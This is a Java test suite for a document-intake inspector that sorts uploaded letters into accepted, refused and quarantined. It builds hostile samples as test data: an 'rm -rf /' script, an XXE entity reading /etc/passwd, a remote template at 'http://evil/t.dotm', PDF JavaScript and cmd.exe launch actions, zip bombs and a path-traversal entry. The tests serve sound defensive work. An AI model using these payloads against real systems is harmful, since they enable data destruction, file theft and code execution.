package vn.congvan.intake.inspection;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.concurrent.CountDownLatch;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.PDStream;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.LoggerFactory;
import org.springframework.util.unit.DataSize;
import vn.congvan.intake.IntakeSettings;
import vn.congvan.practice.PracticeLetter;

class FileInspectionTest {

  static final String DOCX_TYPES =
      "<Types><Override PartName=\"/word/document.xml\""
          + " ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";
  static final String XLSX_TYPES =
      "<Types><Override PartName=\"/xl/workbook.xml\""
          + " ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/></Types>";
  static final String DOCUMENT =
      "<w:document xmlns:w=\"w\"><w:body><w:p><w:r><w:t>Số:"
          + " 7/SNV-VP</w:t></w:r></w:p></w:body></w:document>";

  @TempDir Path folder;

  /** PDFBox tells at length what is wrong with a file, and here everything is. */
  @BeforeAll
  static void quietly() {
    ((Logger) LoggerFactory.getLogger("org.apache")).setLevel(Level.OFF);
  }

  final FileInspection inspection = new FileInspection(settings());

  static IntakeSettings settings() {
    return new IntakeSettings(
        DataSize.ofMegabytes(5),
        50,
        20,
        5000,
        20_000_000,
        100,
        DataSize.ofMegabytes(20),
        100,
        Duration.ofSeconds(60),
        2,
        Duration.ofSeconds(10));
  }

  // What comes in

  @Test
  void aLetterAsPdfComesInWithItsPagesAndText() throws IOException {
    var letter = accepted(inspect("cv.pdf", PracticeLetter.ofCommune().pdf()));
    assertThat(letter.mediaType()).isEqualTo("application/pdf");
    assertThat(letter.pages()).isEqualTo(2);
    assertThat(letter.text())
        .contains("Số: 05/QĐ-UBND   ")
        .contains("Về việc kiện toàn Ban Chỉ huy phòng thủ\n");
  }

  @Test
  void wordAndExcelFilesComeIn() throws IOException {
    var word =
        accepted(
            inspect(
                "a.docx",
                zip(Map.of("[Content_Types].xml", DOCX_TYPES, "word/document.xml", DOCUMENT))));
    assertThat(word.mediaType()).endsWith("wordprocessingml.document");
    assertThat(word.text()).isEqualTo("Số: 7/SNV-VP\n");
    var excel =
        accepted(
            inspect(
                "a.xlsx",
                zip(Map.of("[Content_Types].xml", XLSX_TYPES, "xl/workbook.xml", "<workbook/>"))));
    assertThat(excel.mediaType()).endsWith("spreadsheetml.sheet");
  }

  @ParameterizedTest
  @ValueSource(strings = {"png", "jpeg", "tiff"})
  void picturesComeIn(String format) throws IOException {
    var picture = accepted(inspect("scan." + format, picture(format, 200, 300)));
    assertThat(picture.mediaType()).isEqualTo("image/" + format);
    assertThat(picture.pages()).isEqualTo(1);
  }

  @Test
  void theContentCountsNotTheName() throws IOException {
    assertThat(accepted(inspect("cv.exe", PracticeLetter.ofCommune().pdf())).mediaType())
        .isEqualTo("application/pdf");
    assertThat(accepted(inspect("anh.pdf", picture("png", 10, 10))).mediaType())
        .isEqualTo("image/png");
  }

  // What is of no use

  @Test
  void anEmptyFileIsRefused() throws IOException {
    assertThat(refused(inspect("cv.pdf", new byte[0]))).startsWith("Tệp rỗng");
  }

  @Test
  void aFileOverTheLimitIsRefused() throws IOException {
    assertThat(refused(inspect("cv.pdf", new byte[5 * 1024 * 1024 + 1])))
        .contains("lớn hơn giới hạn 5 MB");
  }

  @Test
  void aPdfWithTooManyPagesIsRefused() throws IOException {
    var letter = PracticeLetter.ofCommune();
    var thick =
        new PracticeLetter(
            null,
            letter.issuer(),
            letter.identifier(),
            letter.placeAndDate(),
            letter.type(),
            letter.subject(),
            null,
            letter.authority(),
            letter.signer(),
            21);
    assertThat(refused(inspect("cv.pdf", thick.pdf()))).contains("21 trang", "giới hạn 20 trang");
  }

  @ParameterizedTest
  @ValueSource(doubles = {0.02, 0.3, 0.6, 0.9, 0.99})
  void aPdfThatWasCutOffIsRefused(double part) throws IOException {
    var whole = PracticeLetter.ofCommune().pdf();
    assertThat(refused(inspect("cv.pdf", Arrays.copyOf(whole, (int) (whole.length * part)))))
        .contains("bị hỏng");
  }

  @Test
  void aPdfOfWhichOnlyFrameAndEndAreLeftIsRefused() throws IOException {
    assertThat(refused(inspect("cv.pdf", "%PDF-1.4\nnhiều chữ\n%%EOF".getBytes(UTF_8))))
        .contains("bị hỏng");
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "mở"})
  void anEncryptedPdfIsRefused(String password) throws IOException {
    try (var document = PracticeLetter.ofCommune().document()) {
      document.protect(new StandardProtectionPolicy("chủ", password, new AccessPermission()));
      assertThat(refused(inspect("cv.pdf", bytes(document)))).contains("mật khẩu");
    }
  }

  @Test
  void anOfficeFileUnderAPasswordIsRefused() throws IOException {
    assertThat(refused(inspect("cv.docx", ole("EncryptedPackage")))).contains("mật khẩu");
    assertThat(refused(inspect("cv.doc", ole("WordDocument")))).contains("97–2003");
  }

  @Test
  void aRenamedProgramIsRefused() throws IOException {
    var program = new byte[4096];
    program[0] = 'M';
    program[1] = 'Z';
    assertThat(refused(inspect("Giấy mời.pdf", program)))
        .contains("“Giấy mời.pdf”", "chương trình chạy được");
    assertThat(refused(inspect("cv.pdf", new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0})))
        .contains("chương trình");
    assertThat(refused(inspect("cv.pdf", "#!/bin/sh\nrm -rf /\n".getBytes(UTF_8))))
        .contains("đoạn lệnh");
  }

  @Test
  void aRenamedWebPageIsRefused() throws IOException {
    assertThat(
            refused(
                inspect(
                    "cv.pdf",
                    "<!DOCTYPE html><html><script>alert(1)</script></html>".getBytes(UTF_8))))
        .contains("trang web");
    assertThat(
            refused(
                inspect(
                    "anh.png",
                    "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"x()\"/>".getBytes(UTF_8))))
        .contains("SVG");
  }

  @Test
  void anArchiveIsRefused() throws IOException {
    assertThat(refused(inspect("cv.pdf", zip(Map.of("cv.pdf", "x"))))).contains("ZIP");
  }

  @Test
  void aSlideShowIsRefused() throws IOException {
    assertThat(
            refused(
                inspect(
                    "a.docx",
                    zip(
                        Map.of(
                            "[Content_Types].xml",
                            "<Types ContentType=\"presentationml.presentation.main+xml\"/>")))))
        .contains("không phải văn bản Word");
  }

  @Test
  void aWordFileThatWasCutOffIsRefused() throws IOException {
    var whole = zip(Map.of("[Content_Types].xml", DOCX_TYPES, "word/document.xml", DOCUMENT));
    assertThat(refused(inspect("a.docx", Arrays.copyOf(whole, whole.length - 30))))
        .contains("bị hỏng");
  }

  @ParameterizedTest
  @ValueSource(strings = {"png", "jpeg", "tiff"})
  void aPictureThatWasCutOffIsRefused(String format) throws IOException {
    var whole = picture(format, 300, 300);
    assertThat(refused(inspect("a." + format, Arrays.copyOf(whole, whole.length * 2 / 3))))
        .contains("bị hỏng");
  }

  @Test
  void aPictureOfAbsurdSizeIsRefusedUnopened() throws IOException {
    var png = picture("png", 10, 10);
    // Width and height stand at offset 16 of every PNG.
    for (var at : new int[] {16, 20}) {
      png[at] = 0x7f;
      png[at + 1] = (byte) 0xff;
    }
    assertThat(refused(inspect("a.png", png))).contains("điểm ảnh", "vượt giới hạn");
  }

  // What could do harm

  @Test
  void aPdfThatRunsAScriptIsQuarantined() throws IOException {
    try (var document = PracticeLetter.ofCommune().document()) {
      document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert('xin chào');"));
      assertThat(quarantined(inspect("cv.pdf", bytes(document)))).contains("mã JavaScript");
    }
  }

  @Test
  void aPdfThatStartsAProgramIsQuarantined() throws IOException {
    try (var document = PracticeLetter.ofCommune().document()) {
      var launch = new PDActionLaunch();
      launch.getCOSObject().setString(COSName.F, "cmd.exe");
      var link = new PDAnnotationLink();
      link.setAction(launch);
      document.getPage(1).getAnnotations().add(link);
      assertThat(quarantined(inspect("cv.pdf", bytes(document)))).contains("mở chương trình khác");
    }
  }

  @Test
  void aPdfWithAFileInsideIsQuarantined() throws IOException {
    try (var document = PracticeLetter.ofCommune().document()) {
      var file = new PDComplexFileSpecification();
      file.setFile("virus.exe");
      file.setEmbeddedFile(
          new PDEmbeddedFile(document, new ByteArrayInputStream("MZ".getBytes(UTF_8))));
      var files = new PDEmbeddedFilesNameTreeNode();
      files.setNames(Map.of("virus.exe", file));
      var names = new PDDocumentNameDictionary(document.getDocumentCatalog());
      names.setEmbeddedFiles(files);
      document.getDocumentCatalog().setNames(names);
      assertThat(quarantined(inspect("cv.pdf", bytes(document)))).contains("đính kèm ẩn");
    }
  }

  @ParameterizedTest
  @ValueSource(ints = {1, 2})
  void aPdfThatUnpacksIntoGigabytesIsQuarantined(int layers) throws IOException {
    var packed = new ByteArrayOutputStream();
    OutputStream out = packed;
    for (var layer = 0; layer < layers; layer++) {
      out = new DeflaterOutputStream(out);
    }
    for (var megabyte = 0; megabyte < 64; megabyte++) {
      out.write(new byte[1024 * 1024]);
    }
    out.close();
    try (var document = new PDDocument()) {
      var page = new PDPage();
      document.addPage(page);
      var stream = new PDStream(document);
      try (var raw = stream.getCOSObject().createRawOutputStream()) {
        raw.write(packed.toByteArray());
      }
      stream.getCOSObject().setItem(COSName.FILTER, COSName.FLATE_DECODE);
      page.setContents(stream);
      assertThat(quarantined(inspect("cv.pdf", bytes(document)))).contains("nén bất thường");
    }
  }

  @Test
  void macrosAreQuarantinedWhateverTheName() throws IOException {
    assertThat(
            quarantined(
                inspect(
                    "a.docx",
                    zip(
                        Map.of(
                            "[Content_Types].xml", DOCX_TYPES,
                            "word/document.xml", DOCUMENT,
                            "word/vbaProject.bin", "macro")))))
        .contains("macro");
    assertThat(
            quarantined(
                inspect(
                    "a.docx",
                    zip(
                        Map.of(
                            "[Content_Types].xml",
                            DOCX_TYPES.replace(
                                "vnd.openxmlformats-officedocument.wordprocessingml.document",
                                "vnd.ms-word.document.macroEnabled"),
                            "word/document.xml",
                            DOCUMENT)))))
        .contains("macro");
  }

  @Test
  void aTemplateFromOutsideIsQuarantined() throws IOException {
    assertThat(
            quarantined(
                inspect(
                    "a.docx",
                    zip(
                        Map.of(
                            "[Content_Types].xml",
                            DOCX_TYPES,
                            "word/document.xml",
                            DOCUMENT,
                            "word/_rels/settings.xml.rels",
                            "<Relationships><Relationship Id=\"r\""
                                + " Type=\"http://x/attachedTemplate\""
                                + " Target=\"http://evil/t.dotm\""
                                + " TargetMode=\"External\"/></Relationships>")))))
        .contains("từ ngoài vào");
  }

  @Test
  void entitiesInXmlAreQuarantined() throws IOException {
    assertThat(
            quarantined(
                inspect(
                    "a.docx",
                    zip(
                        Map.of(
                            "[Content_Types].xml",
                            DOCX_TYPES,
                            "word/document.xml",
                            "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>"
                                + DOCUMENT)))))
        .contains("DOCTYPE");
  }

  @Test
  void zipBombsAreQuarantined() throws IOException {
    var many = new LinkedHashMap<String, String>();
    many.put("[Content_Types].xml", DOCX_TYPES);
    for (var part = 0; part < 200; part++) {
      many.put("word/" + part, "x");
    }
    assertThat(quarantined(inspect("many.docx", zip(many)))).contains("nén bất thường");

    var large =
        zip(
            Map.of(
                "[Content_Types].xml",
                DOCX_TYPES,
                "word/document.xml",
                DOCUMENT,
                "word/media/a",
                "0".repeat(25_000_000)));
    assertThat(quarantined(inspect("large.docx", large))).contains("nén bất thường");

    var dense =
        zip(
            Map.of(
                "[Content_Types].xml",
                DOCX_TYPES,
                "word/document.xml",
                DOCUMENT,
                "word/media/a",
                "0".repeat(15_000_000)));
    assertThat(quarantined(inspect("dense.docx", dense))).contains("nén bất thường");
  }

  @Test
  void partsThatPointOutsideAreQuarantined() throws IOException {
    assertThat(
            quarantined(
                inspect(
                    "a.docx",
                    zip(
                        Map.of(
                            "[Content_Types].xml", DOCX_TYPES,
                            "word/document.xml", DOCUMENT,
                            "../../etc/cron.d/x", "x")))))
        .contains("trỏ ra ngoài");
  }

  @Test
  void aJobThatNeverEndsIsGivenUp() throws Exception {
    var clock = new WallClock("test", 1, Duration.ofMillis(50));
    var never = new CountDownLatch(1);
    assertThat(
            clock.<String>within(
                () -> {
                  never.await();
                  return "xong";
                },
                () -> "quá lâu"))
        .isEqualTo("quá lâu");
    assertThat(clock.<String>within(() -> "xong", () -> "quá lâu")).isEqualTo("xong");
  }

  @Test
  void noMutilationOfAPdfGetsPastWithAnError() throws IOException {
    var whole = PracticeLetter.ofDepartment().pdf();
    var random = new java.util.Random(30);
    for (var round = 0; round < 60; round++) {
      var spoilt = whole.clone();
      for (var hit = 0; hit < 20; hit++) {
        spoilt[random.nextInt(spoilt.length)] = (byte) random.nextInt(256);
      }
      assertThat(inspect("cv.pdf", spoilt)).isNotNull();
    }
  }

  private Finding inspect(String name, byte[] content) throws IOException {
    var file = Files.createTempFile(folder, "arrived", "");
    Files.write(file, content);
    return inspection.inspect(file, name);
  }

  private static Finding.Accepted accepted(Finding finding) {
    assertThat(finding).isInstanceOf(Finding.Accepted.class);
    return (Finding.Accepted) finding;
  }

  private static String refused(Finding finding) {
    assertThat(finding).isInstanceOf(Finding.Refused.class);
    return ((Finding.Refused) finding).reason().vietnamese();
  }

  private static String quarantined(Finding finding) {
    assertThat(finding).isInstanceOf(Finding.Quarantined.class);
    return ((Finding.Quarantined) finding).reason().vietnamese();
  }

  private static byte[] bytes(PDDocument document) throws IOException {
    var bytes = new ByteArrayOutputStream();
    document.save(bytes);
    return bytes.toByteArray();
  }

  private static byte[] picture(String format, int width, int height) throws IOException {
    var image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
    var random = new java.util.Random(7);
    for (var x = 0; x < width; x++) {
      for (var y = 0; y < height; y++) {
        image.setRGB(x, y, random.nextInt(0xffffff));
      }
    }
    var bytes = new ByteArrayOutputStream();
    assertThat(ImageIO.write(image, format, bytes)).isTrue();
    return bytes.toByteArray();
  }

  private static byte[] zip(Map<String, String> parts) throws IOException {
    var bytes = new ByteArrayOutputStream();
    try (var zip = new ZipOutputStream(bytes)) {
      for (var part : parts.entrySet()) {
        zip.putNextEntry(new ZipEntry(part.getKey()));
        zip.write(part.getValue().getBytes(UTF_8));
        zip.closeEntry();
      }
    }
    return bytes.toByteArray();
  }

  /** The wrapping of old Office files, as far as it is looked at. */
  private static byte[] ole(String stream) {
    var bytes = new byte[4096];
    var magic = new int[] {0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1};
    for (var index = 0; index < magic.length; index++) {
      bytes[index] = (byte) magic[index];
    }
    var name = stream.getBytes(java.nio.charset.StandardCharsets.UTF_16LE);
    System.arraycopy(name, 0, bytes, 1024, name.length);
    return bytes;
  }
}
